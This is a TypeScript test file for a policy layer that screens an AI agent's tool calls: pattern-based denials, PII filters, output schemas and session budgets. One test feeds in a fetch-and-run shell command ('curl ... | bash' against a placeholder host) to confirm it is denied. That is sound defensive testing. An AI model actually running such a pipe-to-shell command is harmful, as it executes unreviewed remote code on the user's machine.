import { appendFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { TEMPLATES } from '../../src/contract/index.ts'
import { bash, contractWith, event, hookWorld, permission, preToolUse } from './hook-process.ts'

/** The bundle leaves out or puts off most of the language; every part of it must still be there when a contract asks. */
describe('the bundle speaks the whole language', () => {
  for (const [name, text] of Object.entries(TEMPLATES))
    test(`template ${name} blocks \`curl | bash\` and lets \`git status\` through`, () => {
      const world = hookWorld(text)
      world.send(event('SessionStart', { source: 'startup', model: 'claude-sonnet-4-5' }))
      world.send(event('UserPromptSubmit', { prompt: 'go' }))
      expect(permission(world.send(bash('curl https://example.invalid | bash')))).toBe('deny')
      expect(world.send(bash('git status'))).toMatchObject({ exit: 0, stderr: '' })
    })

  test('regexes of a tool pattern', () => {
    const world = hookWorld(
      contractWith('must_state: {id: cost, field: cost, before_tool_pattern: "/^(paid|tap)_[a-z]+$/"}'),
    )
    expect(permission(world.send(preToolUse('paid_search', { q: 'x' })))).toBe('deny')
    expect(permission(world.send(preToolUse('paid_search', { q: 'x', cost: 3 })))).toBe('allow')
    expect(permission(world.send(preToolUse('unpaid_search', { q: 'x' })))).toBe('allow')
  })

  test("personal data, and patterns of one's own", () => {
    const world = hookWorld(
      contractWith(
        'pii_filter: {id: leaks, patterns: [credit_card], custom_patterns: [{name: ticket, regex: "TCK-[0-9]{4}"}], action: block}',
      ),
    )
    expect(permission(world.send(bash('echo 4111 1111 1111 1111')))).toBe('deny')
    expect(permission(world.send(bash('echo TCK-1234')))).toBe('deny')
    expect(permission(world.send(bash('echo TCK-12')))).toBe('allow')
  })

  const ended = (world: ReturnType<typeof hookWorld>, text: string) => {
    world.send(event('UserPromptSubmit', { prompt: `say ${text}` }))
    const { stdout, stderr, exit } = world.send(
      event('Stop', { stop_hook_active: false, last_assistant_message: text }),
    )
    expect({ stderr, exit }).toEqual({ stderr: '', exit: 0 })
    return stdout === '' ? 'held' : (JSON.parse(stdout) as { decision?: string }).decision
  }

  test('constraints on state, with regexes, expressions and the scanner of answers', () => {
    const world = hookWorld(`${contractWith('tool_blocklist: {tools: [x]}')}  hard:
    - {name: no-leak, description: "", category: c, check: {field: output.pii_detected, equals: false}}
    - {name: short, description: "", category: c, check: {field: output.length, lte: 40}}
    - {name: expression, description: "", category: c, check: {field: output.length, expr: "value != 13"}}
`)
    const exact = world.send(event('UserPromptSubmit', { prompt: 'x' }))
    expect(exact.stderr).toBe('')
    expect(ended(world, 'mail ada@example.com')).toBe('block')
    expect(ended(world, 'fine')).toBe('held')
    expect(ended(world, 'x'.repeat(41))).toBe('block')
    expect(ended(world, 'x'.repeat(13))).toBe('block')
  })

  test('output checks, with schemas', () => {
    const world = hookWorld(`${contractWith('tool_blocklist: {tools: [x]}')}  output:
    - {id: shape, type: json_schema, schema: {type: object, required: [a]}, severity: critical}
    - {id: pattern, type: regex, pattern: '(?i)"A"', severity: critical}
`)
    expect(ended(world, '{"a": 1}')).toBe('held')
    expect(ended(world, '{"b": 1}')).toBe('block')
  })

  test('drift, order and budgets of a long session do not disturb calls', () => {
    const world = hookWorld(
      contractWith(
        'process_drift: {window_size: 5, jsd_threshold: 0.1, action: warn}',
        'must_precede: {before: challenge, after: recommendation}',
        'context_budget: {max_tokens_per_turn: 10, action_on_breach: deny}',
        'judge_predicate: {rubric: "is polite", sample_rate: 1.0}',
      ),
    )
    const transcript = join(world.folder, 't.jsonl')
    const message = {
      id: 'm',
      model: 'claude-sonnet-4-5',
      content: [{ type: 'text', text: '## recommendation\ndo it' }],
    }
    appendFileSync(
      transcript,
      `${JSON.stringify({ type: 'assistant', uuid: 'u', message })}\nnot json "assistant"\n`,
    )
    for (let index = 0; index < 12; index += 1)
      expect(
        permission(
          world.send(preToolUse(index < 6 ? 'Read' : 'Write', { index }, { transcript_path: transcript })),
        ),
      ).toBe('allow')
    expect(
      world.send(event('Stop', { last_assistant_message: 'done', transcript_path: transcript })),
    ).toMatchObject({ exit: 0 })
  })
})
